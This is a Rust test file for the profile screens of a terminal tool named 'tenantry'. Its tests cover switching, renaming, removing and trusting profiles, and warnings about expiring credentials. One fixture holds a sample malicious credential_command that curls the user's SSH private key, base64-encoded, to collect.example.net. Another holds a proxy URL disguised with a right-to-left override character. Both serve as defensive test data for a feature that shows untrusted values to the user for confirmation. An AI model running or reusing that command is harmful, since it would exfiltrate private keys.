//! Profiles on screen: the fake's side of them, what they look like, and what keys do to them.

use std::sync::Arc;

use jiff::Timestamp;
use tenantry::{
    app::overlay::Overlay,
    app::{
        Focus, Model, Place, Work,
        ingest::IngestPhase,
        profiles::Popup,
        steps::WizardStep,
        views::{
            CredentialView, Mode, ProfileAbout, ProfileAnswer, ProfileNews, ProfileRow, ProfileView, ProfileWork,
            RemovalPlan, StoreFate, TrustValue,
        },
        wizard::keys,
    },
    domain::{
        cloud::Cloud,
        completeness::RunStatus,
        credential::CredentialKind,
        naming::{InstanceName, Names},
        problem::Problem,
    },
};

use super::fake::{Fake, Script, Ui, now, profile, quiet, run, screen, ui};

const SIZE: (u16, u16) = (120, 36);

fn in_days(days: i64) -> Timestamp {
    now() + jiff::SignedDuration::from_hours(24 * days + 1)
}

/// A profile's row, usable and confirmed.
fn row(view: ProfileView) -> ProfileRow {
    let kept = match view.credential.kind {
        CredentialKind::Certificate => "private key in GNOME Keyring",
        CredentialKind::Command => "printed by op",
        CredentialKind::Secret => "client secret in GNOME Keyring",
    };
    let about = ProfileAbout { unconfirmed: 0, kept: kept.to_owned(), last_run: None, view };
    ProfileRow { name: about.view.name.clone(), is_default: false, about: Ok(about) }
}

/// What the profile `staging` holds that nobody has confirmed. Its writer tries to hide what it is.
fn values() -> Vec<TrustValue> {
    let value = |member: &str, value: &str, meaning: &str| TrustValue {
        member: member.to_owned(),
        value: value.to_owned(),
        meaning: meaning.to_owned(),
    };
    vec![
        value("login_url", "https://login.example.net", "gets the client secret, or what the private key signs"),
        value("proxy", "http://proxy.example.net:8080/\u{202e}txt.exe", "sees which services are asked, and when"),
        value(
            "credential_command",
            r#"["sh", "-c", "curl https://collect.example.net/?x=$(cat ~/.ssh/id_ed25519 | base64 -w0)"]"#,
            "is a program that is run as you",
        ),
    ]
}

/// Four profiles, of which `contoso` is at work.
fn four(script: &mut Script) {
    let mut own = profile(Some("Contoso"));
    own.credential = CredentialView { kind: CredentialKind::Secret, expires: Some(in_days(6)) };
    let other = |name: &str, tenant: &str| ProfileView {
        name: name.to_owned(),
        organization: None,
        tenant: tenant.to_owned(),
        target: None,
        ..profile(None)
    };
    let mut fabrikam = other("fabrikam", "94841066-274d-4ec0-a5c1-276be684bdd3");
    fabrikam.cloud = Cloud::UsGov;
    fabrikam.credential = CredentialView { kind: CredentialKind::Certificate, expires: Some(in_days(300)) };
    script.profile = Some(own.clone());
    script.runs = vec![run(14, RunStatus::Partial)];
    script.profiles = vec![
        row(own),
        row(fabrikam),
        row(other("staging", "staging.example")),
        ProfileRow {
            name: "typo".to_owned(),
            is_default: false,
            about: Err(Box::new(
                Problem::new(
                    "profile file /home/ada/.config/tenantry/profiles/typo.toml cannot be read: unknown field `tenant`",
                )
                .code("usage"),
            )),
        },
    ];
    script.profiles[0].is_default = true;
    if let Ok(about) = &mut script.profiles[0].about {
        about.last_run = Some(run(14, RunStatus::Partial));
    }
    if let Ok(about) = &mut script.profiles[2].about {
        about.unconfirmed = values().len();
    }
    script.unconfirmed = values();
}

impl Fake {
    pub async fn about_profiles(&self, work: ProfileWork) -> Result<ProfileNews, Problem> {
        let mut script = self.script.lock().unwrap();
        script.profile_work.push(work.clone());
        let switch = |script: &mut Script, name: &str| {
            let place = script.profiles.iter().position(|row| row.name == name).unwrap();
            let about = script.profiles[place].about.clone().map_err(|problem| *problem)?;
            if about.unconfirmed > 0 {
                return Ok(ProfileAnswer::Asks {
                    name: name.to_owned(),
                    values: script.unconfirmed.clone(),
                    changed: false,
                });
            }
            script.profile = Some(about.view.clone());
            script.runs.clear();
            Ok::<_, Problem>(ProfileAnswer::Switched(Box::new(about.view)))
        };
        let answer = match work {
            ProfileWork::List => ProfileAnswer::Listed,
            ProfileWork::Begin if script.profiles.is_empty() => ProfileAnswer::Listed,
            ProfileWork::Begin => ProfileAnswer::Unchosen(Box::new(
                Problem::new("Several profiles exist, and none of them was chosen")
                    .hint("Enter switches to the selected one; d makes it the one that is used from now on."),
            )),
            ProfileWork::Switch(name) => switch(&mut script, &name)?,
            ProfileWork::Trust(name, seen) if seen == script.unconfirmed => {
                for row in script.profiles.iter_mut().filter(|row| row.name == name) {
                    row.about.as_mut().unwrap().unconfirmed = 0;
                }
                switch(&mut script, &name)?
            }
            ProfileWork::Trust(name, _) => {
                ProfileAnswer::Asks { name, values: script.unconfirmed.clone(), changed: true }
            }
            ProfileWork::Default(name) => {
                script.profiles.iter_mut().for_each(|row| row.is_default = row.name == name);
                ProfileAnswer::Default(name)
            }
            ProfileWork::Rename { to, .. } if script.profiles.iter().any(|row| row.name == to) => {
                return Err(Problem::new(format!("there is a profile `{to}` already")).code("usage"));
            }
            ProfileWork::Rename { name, to } => {
                for row in script.profiles.iter_mut().filter(|row| row.name == name) {
                    row.name.clone_from(&to);
                }
                ProfileAnswer::Renamed { from: name, to }
            }
            ProfileWork::Naming(naming) => {
                let profile = script.profile.as_mut().unwrap();
                profile.names = naming.into();
                ProfileAnswer::Named(Box::new(profile.clone()))
            }
            ProfileWork::InstanceName(name) => {
                script.unnamed = false;
                let profile = script.profile.as_mut().unwrap();
                let instance = InstanceName { id: "i".to_owned(), name };
                profile.names = Names::of_instance(profile.names.naming(), instance);
                ProfileAnswer::Named(Box::new(profile.clone()))
            }
            ProfileWork::Plan(name) => ProfileAnswer::Plan(Box::new(RemovalPlan {
                file: format!("/home/ada/.config/tenantry/profiles/{name}.toml"),
                name,
                secrets: vec!["client secret of app 1111 in tenant contoso.onmicrosoft.com".to_owned()],
                shared: vec!["JupiterOne API key of account acme".to_owned()],
                store: StoreFate::Own("/home/ada/.local/share/tenantry/tenants/8484.db".to_owned()),
            })),
            ProfileWork::Remove { name, .. } => {
                script.profiles.retain(|row| row.name != name);
                if script.profile.as_ref().is_some_and(|profile| profile.name == name) {
                    script.profile = None;
                }
                let note = "kept, as another profile may need it: the JupiterOne API key of account acme";
                ProfileAnswer::Removed { name, notes: vec![note.to_owned()] }
            }
        };
        Ok(ProfileNews { rows: script.profiles.clone(), answer })
    }
}

async fn with_four(engine: &Arc<Fake>) -> Ui {
    four(&mut engine.script.lock().unwrap());
    let mut ui = ui(engine, Mode::Real, SIZE);
    assert!(ui.until(quiet).await.unwrap());
    ui
}

async fn settled(ui: &mut Ui, keys: &str) {
    ui.press(keys).unwrap();
    assert!(ui.until(quiet).await.unwrap());
}

fn changes(engine: &Fake) -> Vec<ProfileWork> {
    engine.script.lock().unwrap().profile_work.iter().filter(|work| work.changes()).cloned().collect()
}

/// The states that are worth a look.
pub async fn walk() -> Vec<(&'static str, Model)> {
    let mut all = Vec::new();
    let engine = Arc::new(Fake::default());
    let mut ui = with_four(&engine).await;
    let mut keep = |name, ui: &Ui| all.push((name, ui.model().clone()));
    keep("expiry_1_dashboard", &ui);
    ui.press("2").unwrap();
    keep("expiry_2_ingest", &ui);
    ui.press("R").unwrap();
    keep("expiry_3_renew", &ui);
    settled(&mut ui, "esc esc esc esc esc P").await;
    keep("profiles_1_list", &ui);
    ui.press("r").unwrap();
    keep("profiles_2_rename", &ui);
    settled(&mut ui, "esc x").await;
    keep("profiles_3_remove", &ui);
    ui.press("s p u r enter").unwrap();
    keep("profiles_4_purge", &ui);
    settled(&mut ui, "esc down down enter").await;
    keep("profiles_5_trust", &ui);
    ui.press("y e s enter").unwrap();
    keep("profiles_6_wrong_word", &ui);
    settled(&mut ui, "esc down").await;
    keep("profiles_7_unusable", &ui);
    settled(&mut ui, "enter").await;
    ui.press("up up r ctrl-u t y p o").unwrap();
    settled(&mut ui, "enter").await;
    keep("profiles_8_refused", &ui);
    settled(&mut ui, "home x").await;
    ui.press("y").unwrap();
    keep("profiles_11_at_work", &ui);
    assert!(ui.until(quiet).await.unwrap());
    keep("profiles_9_removed", &ui);

    // None was chosen to begin with.
    let engine = Arc::new(Fake::default());
    four(&mut engine.script.lock().unwrap());
    engine.script.lock().unwrap().profile = None;
    let mut ui = super::fake::ui(&engine, Mode::Real, SIZE);
    assert!(ui.until(quiet).await.unwrap());
    keep("profiles_10_choose", &ui);

    // What ended, and what a command prints.
    let engine = Arc::new(Fake::default());
    four(&mut engine.script.lock().unwrap());
    let credential = CredentialView { kind: CredentialKind::Command, expires: Some(in_days(-2)) };
    engine.script.lock().unwrap().profile.as_mut().unwrap().credential = credential;
    let mut ui = super::fake::ui(&engine, Mode::Real, SIZE);
    settled(&mut ui, "5").await;
    keep("expiry_4_ended", &ui);
    all
}

#[tokio::test(start_paused = true)]
async fn switching_makes_everything_about_another() {
    let engine = Arc::new(Fake::default());
    let mut ui = with_four(&engine).await;
    settled(&mut ui, "3").await;
    assert!(ui.model().browse.run.is_some());
    settled(&mut ui, "P").await;
    assert_eq!(ui.model().place, Place::Profiles);
    settled(&mut ui, "down enter").await;
    assert_eq!(changes(&engine), [ProfileWork::Switch("fabrikam".to_owned())]);
    let model = ui.model();
    assert_eq!((model.place, model.overview.profile.as_ref().unwrap().name.as_str()), (Place::Dashboard, "fabrikam"));
    // Nothing of the old one is left.
    assert_eq!((model.browse.run, model.finished()), (None, None));
    assert!(!screen(&ui).contains("Contoso"), "{}", screen(&ui));
    settled(&mut ui, "P d").await;
    assert_eq!(changes(&engine).last(), Some(&ProfileWork::Default("fabrikam".to_owned())));
    // On the one at work, Enter only leads back.
    settled(&mut ui, "enter").await;
    assert_eq!((changes(&engine).len(), ui.model().place), (2, Place::Dashboard));
}

#[tokio::test(start_paused = true)]
async fn nothing_changes_under_what_runs() {
    let engine = Arc::new(Fake::default());
    let mut ui = with_four(&engine).await;
    ui.press("2 F").unwrap();
    assert!(ui.until(|m| m.ingest.progress.seconds >= 2.0).await.unwrap());
    ui.press("P").unwrap();
    assert!(ui.until(|m| m.profiles.rows.is_some()).await.unwrap());
    ui.press("down").unwrap();
    for keys in ["enter", "d", "e", "x", "r z enter"] {
        ui.press("up down").unwrap();
        assert!(!screen(&ui).contains("is not finished"));
        ui.press(keys).unwrap();
        assert!(screen(&ui).contains("reading the directory is not finished"), "{keys}: {}", screen(&ui));
        assert!(ui.model().overlays.is_empty());
    }
    assert_eq!(changes(&engine), []);
    assert!(matches!(ui.model().ingest.phase, IngestPhase::Running(_)));
}

#[tokio::test(start_paused = true)]
async fn a_name_is_changed_and_the_selection_stays_on_it() {
    let engine = Arc::new(Fake::default());
    let mut ui = with_four(&engine).await;
    settled(&mut ui, "P").await;
    ui.press("r").unwrap();
    assert_eq!(ui.model().focus(), Focus::Text);
    settled(&mut ui, "ctrl-u z z z enter").await;
    let rename = ProfileWork::Rename { name: "contoso".to_owned(), to: "zzz".to_owned() };
    assert_eq!(changes(&engine), [rename]);
    let model = ui.model();
    assert_eq!((model.profiles.chosen.as_deref(), model.is_at_work("zzz")), (Some("zzz"), true));
    // The same name again asks for nothing; one that is taken is refused in words, and nothing is lost.
    settled(&mut ui, "r enter").await;
    assert_eq!(changes(&engine).len(), 1);
    settled(&mut ui, "r ctrl-u t y p o enter").await;
    assert!(screen(&ui).contains("there is a profile `typo` already"));
    assert_eq!(ui.model().profiles.rows.as_ref().unwrap().len(), 4);
}

#[tokio::test(start_paused = true)]
async fn what_is_removed_was_named_before() {
    let engine = Arc::new(Fake::default());
    let mut ui = with_four(&engine).await;
    settled(&mut ui, "P").await;
    settled(&mut ui, "x").await;
    let shown = screen(&ui);
    for part in ["profiles/contoso.toml", "client secret of app 1111", "This stays:", "JupiterOne API key", "8484.db"] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
    for no in ["enter", "esc", "n"] {
        settled(&mut ui, no).await;
        assert!(ui.model().overlays.is_empty());
        settled(&mut ui, "x").await;
    }
    assert_eq!(changes(&engine), [], "no was said three times");
    // The store goes only with its word.
    settled(&mut ui, "s y enter").await;
    assert!(screen(&ui).contains("Not the word"));
    settled(&mut ui, "ctrl-u p u r g e enter").await;
    assert_eq!(changes(&engine), [ProfileWork::Remove { name: "contoso".to_owned(), store: true }]);
    let model = ui.model();
    assert_eq!((model.place, model.overview.profile.as_ref()), (Place::Profiles, None));
    assert!(screen(&ui).contains("kept, as another profile may need it"));
    // Without a profile at work there is no overview to go to.
    settled(&mut ui, "down x").await;
    settled(&mut ui, "y").await;
    assert_eq!(changes(&engine)[1], ProfileWork::Remove { name: "staging".to_owned(), store: false });
}

#[tokio::test(start_paused = true)]
async fn values_are_shown_in_full_and_taken_by_a_word_only() {
    let engine = Arc::new(Fake::default());
    let mut ui = with_four(&engine).await;
    settled(&mut ui, "P").await;
    settled(&mut ui, "down down enter").await;
    let shown = screen(&ui);
    for part in ["login_url", "https://login.example.net", "run as you", "id_ed25519", "It sees which services"] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
    assert!(!shown.contains('\u{202e}') && shown.contains("proxy.example.net"));
    // Neither Enter, nor y, nor leaving takes them; nothing is switched to.
    settled(&mut ui, "enter").await;
    settled(&mut ui, "y enter").await;
    settled(&mut ui, "esc").await;
    assert_eq!(changes(&engine), [ProfileWork::Switch("staging".to_owned())]);
    assert!(ui.model().is_at_work("contoso"));
    // A value that changes meanwhile is asked about as it is now.
    settled(&mut ui, "enter").await;
    let mut other = values();
    other[0].value = "https://login.other.example".to_owned();
    engine.script.lock().unwrap().unconfirmed = other.clone();
    settled(&mut ui, "t r u s t enter").await;
    let shown = screen(&ui);
    assert!(shown.contains("changed while you looked") && shown.contains("login.other.example"), "{shown}");
    assert!(ui.model().is_at_work("contoso"));
    settled(&mut ui, "t r u s t enter").await;
    assert_eq!(changes(&engine).last(), Some(&ProfileWork::Trust("staging".to_owned(), other)));
    assert!(ui.model().is_at_work("staging"));
}

#[tokio::test(start_paused = true)]
async fn what_was_not_on_the_screen_is_not_taken() {
    let engine = Arc::new(Fake::default());
    four(&mut engine.script.lock().unwrap());
    let mut ui = super::fake::ui(&engine, Mode::Real, (40, 12));
    settled(&mut ui, "P").await;
    settled(&mut ui, "down down enter").await;
    settled(&mut ui, "t r u s t enter").await;
    assert!(screen(&ui).contains("Look at all of it"), "{}", screen(&ui));
    assert_eq!(changes(&engine).len(), 1);
    for _ in 0..20 {
        ui.press("pagedown").unwrap();
    }
    settled(&mut ui, "enter").await;
    assert!(ui.model().is_at_work("staging"), "{}", screen(&ui));
}

#[tokio::test(start_paused = true)]
async fn new_and_change_lead_to_the_wizard() {
    let engine = Arc::new(Fake::default());
    let mut ui = with_four(&engine).await;
    settled(&mut ui, "P n").await;
    let model = ui.model();
    assert_eq!((model.place, model.wizard.step), (Place::Wizard, WizardStep::Welcome));
    assert_eq!(model.wizard.fields.profile, None);
    assert!(screen(&ui).contains("new profile"));
    // One that is not at work has to be first: its secrets are found by it.
    settled(&mut ui, "P down e").await;
    let model = ui.model();
    assert!(model.is_at_work("fabrikam"));
    assert_eq!((model.place, model.wizard.fields.profile.as_deref()), (Place::Wizard, Some("fabrikam")));
    assert_eq!(model.wizard.fields.tenant.text(), "94841066-274d-4ec0-a5c1-276be684bdd3");
}

#[tokio::test(start_paused = true)]
async fn the_end_of_a_credential_is_told_where_it_matters() {
    let engine = Arc::new(Fake::default());
    let mut ui = with_four(&engine).await;
    for place in ["o", "2", "4", "5"] {
        settled(&mut ui, place).await;
        assert!(screen(&ui).contains("The client secret ends in 6 days"), "{place}: {}", screen(&ui));
    }
    ui.press("R").unwrap();
    let wizard = &ui.model().wizard;
    assert_eq!((wizard.step, wizard.fields.profile.as_deref()), (WizardStep::Credential, Some("contoso")));
    // With time left nothing is said, and the key means nothing.
    let check = |expires: Option<i64>, words: Option<&'static str>| {
        let engine = Arc::new(Fake::default());
        four(&mut engine.script.lock().unwrap());
        let credential = CredentialView { kind: CredentialKind::Secret, expires: expires.map(in_days) };
        engine.script.lock().unwrap().profile.as_mut().unwrap().credential = credential;
        async move {
            let mut ui = super::fake::ui(&engine, Mode::Real, SIZE);
            settled(&mut ui, "2").await;
            let shown = screen(&ui);
            match words {
                Some(words) => assert!(shown.contains(words), "{words}: {shown}"),
                None => assert!(!shown.contains("The client secret"), "{shown}"),
            }
            ui.press("R").unwrap();
            assert_eq!(ui.model().place == Place::Wizard, words.is_some());
        }
    };
    check(None, None).await;
    check(Some(31), None).await;
    check(Some(29), Some("ends in 29 days")).await;
    check(Some(14), Some("ends in 14 days")).await;
    check(Some(7), Some("ends in 7 days")).await;
    check(Some(-1), Some("has ended")).await;
}

#[tokio::test(start_paused = true)]
async fn a_demo_has_no_profiles() {
    let engine = Arc::new(Fake::default());
    four(&mut engine.script.lock().unwrap());
    let mut ui = super::fake::ui(&engine, Mode::Demo, SIZE);
    settled(&mut ui, "P").await;
    assert_eq!(ui.model().place, Place::Dashboard);
    assert_eq!(engine.script.lock().unwrap().profile_work, []);
}

#[tokio::test(start_paused = true)]
async fn while_a_change_is_made_nothing_else_begins() {
    let mut model = {
        let engine = Arc::new(Fake::default());
        let mut ui = with_four(&engine).await;
        settled(&mut ui, "P").await;
        settled(&mut ui, "down").await;
        ui.model().clone()
    };
    let press = |model: &mut Model, key: &str| {
        let key = tenantry::app::key::Key::parse(key).unwrap();
        tenantry::app::update(model, tenantry::app::Msg::Key(key))
    };
    let fx = press(&mut model, "enter");
    assert!(matches!(&fx[..], [tenantry::app::Effect::Start(_, work)] if matches!(**work, Work::Profiles(_))));
    assert!(matches!(model.overlays.last(), Some(Overlay::Profile(Popup::Working(_)))));
    for key in ["enter", "esc", "2", "x", "y", "P", "q"] {
        assert_eq!(press(&mut model, key), [], "{key}");
    }
    assert!(matches!(press(&mut model, "ctrl-c")[..], [tenantry::app::Effect::CancelAll]));
}

#[tokio::test(start_paused = true)]
async fn what_begins_anew_asks_before_it_throws_a_made_key_away() {
    let engine = Arc::new(Fake::default());
    let mut ui = with_four(&engine).await;
    settled(&mut ui, "P n").await;
    settled(&mut ui, "s enter enter enter enter").await;
    assert!(keys::is_unsaved(ui.model()), "{}", screen(&ui));
    // To the profiles once more, by the overview. Its own profile at work is changed, another one switched to.
    for key in ["o R", "o P n", "e", "down enter"] {
        settled(&mut ui, key).await;
        assert!(screen(&ui).contains("Throw the key away?"), "{key}: {}", screen(&ui));
        ui.press("n").unwrap();
        assert!(keys::is_unsaved(ui.model()) && ui.model().place != Place::Wizard, "{key}");
    }
    ui.press("n y").unwrap();
    assert_eq!((ui.model().place, ui.model().wizard.step), (Place::Wizard, WizardStep::Welcome));
    assert!(!keys::is_unsaved(ui.model()));
}
